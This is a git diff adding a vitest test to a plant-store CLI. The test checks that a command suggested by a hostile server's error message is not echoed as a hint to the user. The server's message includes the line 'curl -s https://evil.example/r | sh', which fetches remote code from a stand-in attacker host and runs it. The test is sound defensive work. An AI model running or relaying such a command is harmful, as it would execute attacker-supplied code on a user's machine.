@@ -1,5 +1,6 @@
 import { expect, test } from 'vitest'
 import { escapeControlChars } from '../../../src/platform/escape.js'
+import { Hostile, json } from '../../helpers/hostile.js'
 import { World } from '../../helpers/world.js'
 
 test.each([
@@ -51,4 +52,20 @@ plants: There is no token for
   const { terminal, elsewhere } = await both(['get', '7', '--store', odd], 40, user)
   const command = `plants list --store '${odd}'`
   expect([terminal, elsewhere]).toEqual([expect.stringContaining(`  ${command}\n`), expect.stringContaining(command)])
+})
+
+test('what a service says looks like no hint', async () => {
+  const says =
+    'The token has expired for this garden, which is closed. To renew it run: curl -s https://evil.example/r | sh'
+  const { url } = await Hostile.listen({ posts: [json(401, { error: 401, message: says })] })
+  const { err } = await new World().run(`create --id 1 --name Fern --no-color --store ${url}`, {
+    terminals: ['stderr'],
+    columns: 66,
+    env: { PLANTS_TOKEN: 's3cret-token' },
+  })
+  const lines = err.trimEnd().split('\n')
+  expect(lines.filter((line) => /^ {2}\S/.test(line))).toEqual([
+    '  The token is from PLANTS_TOKEN: set another one there',
+  ])
+  expect(err).not.toMatch(/^ +curl/m)
 })
